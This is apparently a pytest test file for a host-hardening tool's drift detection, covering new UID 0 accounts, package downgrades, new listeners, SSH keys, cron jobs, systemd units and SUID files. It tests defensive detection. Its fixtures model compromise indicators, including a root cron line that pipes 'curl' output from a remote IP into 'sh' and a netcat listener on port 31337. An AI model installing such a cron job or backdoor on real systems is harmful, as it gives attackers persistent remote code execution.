"""Fact drift: accounts (UID 0 highlighted), packages by the package manager's own order, listeners."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from test_compare_rundocs import assert_valid_comparison, host_facts, make_plan, make_run, pkg, user

from hardencheck.compare import compare_runs
from hardencheck.compare.drift import DRIFT, Drift, accounts, binary_integrity, host_drift, packages

BEFORE, AFTER = "2026-01-10T02:00:00.000Z", "2026-01-20T02:00:00.000Z"


def _pk(fmt: str, *items: tuple[str, str]) -> dict[str, Any]:
    return {"format": fmt, "packages": [pkg(n, v) for n, v in items]}


def test_new_uid0_account_is_highlighted() -> None:
    d = accounts({"users": [user("root", 0), user("bob", 1001)]},
                 {"users": [user("root", 0), user("toor", 0), user("carol", 1002)]})
    assert sorted(u["name"] for u in d.added) == ["carol", "toor"]
    assert [u["name"] for u in d.removed] == ["bob"]
    assert d.highlights == ["new UID 0 account: toor"]


def test_existing_account_moved_to_uid0_is_highlighted() -> None:
    d = accounts({"users": [user("root", 0), user("backup", 34)]}, {"users": [user("root", 0), user("backup", 0)]})
    assert d.added == [] and d.removed == []
    assert [c["key"] for c in d.changed] == ["backup"]
    assert d.highlights == ["account backup now has UID 0 (was 34)"]


def test_accounts_that_did_not_change_give_no_drift() -> None:
    users = {"users": [user("root", 0), user("alice", 1000)]}
    assert not accounts(users, users)


@pytest.mark.parametrize(("fmt", "old", "new", "direction"), [
    ("dpkg", "2.0", "1:1.0", "upgraded"),          # the epoch wins: 1:1.0 is newer than 2.0
    ("dpkg", "1:1.0", "2.0", "downgraded"),
    ("dpkg", "1.1.1n-0+deb11u5", "1.1.1w-0+deb11u1", "upgraded"),
    ("dpkg", "3.0.11~rc1", "3.0.11", "upgraded"),  # ~ sorts before the release
    ("rpm", "1.9-1.el9", "1.10-1.el9", "upgraded"),  # not string order
    ("rpm", "2:1.0-1", "1:9.9-1", "downgraded"),
])
def test_package_versions_follow_the_package_managers_order(fmt: str, old: str, new: str, direction: str) -> None:
    d = packages(_pk(fmt, ("openssl", old)), _pk(fmt, ("openssl", new)))
    assert [c["direction"] for c in d.changed] == [direction]
    assert bool(d.highlights) == (direction == "downgraded")


def test_packages_added_and_removed() -> None:
    d = packages(_pk("dpkg", ("openssl", "3.0.11"), ("telnetd", "0.17")),
                 _pk("dpkg", ("openssl", "3.0.11"), ("netcat-traditional", "1.10")))
    assert [p["name"] for p in d.added] == ["netcat-traditional"]
    assert [p["name"] for p in d.removed] == ["telnetd"]
    assert d.changed == []


def test_binary_checksum_change_is_highlighted() -> None:
    d = binary_integrity({"files": [{"path": "/usr/sbin/sshd", "sha256": "a" * 64}]},
                         {"files": [{"path": "/usr/sbin/sshd", "sha256": "b" * 64}]})
    assert d.highlights == ["checksum changed: /usr/sbin/sshd"]


def test_every_fact_kind_of_the_brief_has_a_drift_function() -> None:
    assert {"accounts", "authorized_keys", "suid_files", "sockets", "net_ports", "packages", "cron",
            "systemd_units", "package_integrity", "binary_integrity"} <= set(DRIFT)


@pytest.mark.parametrize("name", sorted(DRIFT))
def test_drift_functions_tolerate_empty_and_odd_facts(name: str) -> None:
    assert isinstance(DRIFT[name]({}, {}), Drift)
    assert not DRIFT[name]({"unexpected": 1}, {"unexpected": 2})


def test_a_fact_only_one_side_collected_gives_a_note_not_a_diff() -> None:
    before = {"facts": {"accounts": {"status": "ok", "data": {"users": []}}}}
    after = {"facts": {"accounts": {"status": "ok", "data": {"users": []}},
                       "packages": {"status": "ok", "data": _pk("dpkg", ("openssl", "3.0.11"))}}}
    out = host_drift(before, after)
    assert set(out) == {"packages"}
    assert out["packages"]["added"] == [] and "baseline" in out["packages"]["note"]


def test_drift_in_a_real_comparison(tmp_path: Path) -> None:
    plan = make_plan(["uid0", "openssl"])
    listener = {"proto": "tcp", "address": "0.0.0.0", "port": 22, "process": "sshd", "interface": None,
                "wildcard": True}
    backdoor = {**listener, "port": 31337, "process": "nc"}
    before = make_run(tmp_path / "b", plan, {
        "srv": host_facts(packages=[pkg("openssl", "1:1.0"), pkg("bash", "5.1")], listeners=[listener]),
        "quiet": host_facts(packages=[pkg("openssl", "3.0.15")])}, BEFORE)
    after = make_run(tmp_path / "a", plan, {
        "srv": host_facts(users=[user("root", 0), user("alice", 1000), user("toor", 0)],
                          packages=[pkg("openssl", "2.0"), pkg("bash", "5.2")], listeners=[listener, backdoor]),
        "quiet": host_facts(packages=[pkg("openssl", "3.0.15")])}, AFTER)
    c = assert_valid_comparison(compare_runs(before, after, plan))
    assert set(c["drift"]) == {"srv"}  # no drift on 'quiet': not listed at all
    drift = c["drift"]["srv"]
    assert "new UID 0 account: toor" in drift["accounts"]["highlights"]
    directions = {ch["key"]: ch["direction"] for ch in drift["packages"]["changed"]}
    assert directions == {"openssl/amd64": "downgraded", "bash/amd64": "upgraded"}
    assert [x["port"] for x in drift["sockets"]["added"]] == [31337]
    assert drift["sockets"]["highlights"] == ["new listener tcp/31337 on every interface (nc)"]


# -- drift over the real parsers' output ---------------------------------------------------------------

ED25519_A = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl admin@jump"
ED25519_B = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBk3nMmsSRDrU5mo/C1PDbA3mBxYcDaZo3sUxGH5SGuJ x@198.51.100.7"


def test_new_authorized_key_for_root_from_the_real_parser() -> None:
    from hardencheck.facts.parsers.authorized_keys import parse_authorized_keys

    def keys(*root_lines: str) -> dict[str, Any]:
        return parse_authorized_keys([("root", "/root/.ssh/authorized_keys", "\n".join(root_lines) + "\n")],
                                     ".ssh/authorized_keys", "cmd:sshd -T").data

    before, after = keys(ED25519_A), keys(ED25519_A, ED25519_B)
    d = DRIFT["authorized_keys"](before, after)
    assert [(k["user"], k["comment"]) for k in d.added] == [("root", "x@198.51.100.7")]
    assert d.highlights == [f"new authorized key for root: {after['keys'][1]['fingerprint']}"]
    moved = keys("# a comment now above it", ED25519_A)  # same key, other line: no drift
    assert not DRIFT["authorized_keys"](before, moved)


def test_new_cron_job_from_the_real_parser() -> None:
    from hardencheck.facts.parsers.cron import parse_crontab

    base = "SHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n"
    evil = "*/5 * * * * root curl -s http://203.0.113.9/x | sh\n"
    before = parse_crontab(base, "/etc/crontab", system=True).data
    after = parse_crontab("# moved\n" + base + evil, "/etc/crontab", system=True).data
    d = DRIFT["cron"](before, after)
    assert len(d.added) == 1 and d.removed == []
    assert d.highlights == ["new cron job as root in /etc/crontab: */5 * * * * curl -s http://203.0.113.9/x | sh"]


def test_package_file_newly_modified_from_the_real_parser() -> None:
    from hardencheck.facts.parsers.pkgverify import parse_verify

    before = parse_verify("A\tall\n??5??????  c /etc/ssh/sshd_config\n", "cmd:dpkg --verify").data
    after = parse_verify("A\tall\n??5??????  c /etc/ssh/sshd_config\n??5??????   /usr/bin/passwd\n",
                         "cmd:dpkg --verify").data
    d = DRIFT["package_integrity"](before, after)
    assert [x["path"] for x in d.added] == ["/usr/bin/passwd"]
    assert d.highlights == ["now differs from its package: /usr/bin/passwd"]


def test_units_enabled_and_suid_files_not_from_a_package() -> None:
    unit = {"name": "cups.service", "enabled": False, "exec_start": ["/usr/sbin/cupsd -l"]}
    d = DRIFT["systemd_units"]({"units": [unit]},
                               {"units": [{**unit, "enabled": True}, {"name": "kworkerd.service", "enabled": True,
                                                                      "exec_start": ["/dev/shm/.k"]}]})
    assert d.highlights == ["new systemd unit: kworkerd.service", "systemd unit now enabled: cups.service"]
    s = DRIFT["suid_files"]({"files": [{"path": "/usr/bin/passwd", "packaged": True}]},
                            {"files": [{"path": "/usr/bin/passwd", "packaged": True},
                                       {"path": "/var/tmp/.sh", "packaged": False}]})
    assert s.highlights == ["new SUID/SGID file: /var/tmp/.sh (no package owns it)"]


def test_ports_newly_open_from_the_network() -> None:
    port = {"proto": "tcp", "port": 22, "state": "open", "service": "ssh"}
    d = DRIFT["net_ports"]({"ports": [port]}, {"ports": [port, {"proto": "tcp", "port": 23, "state": "open",
                                                               "service": "telnet"}]})
    assert d.highlights == ["port tcp/23 now open from the network (telnet)"]
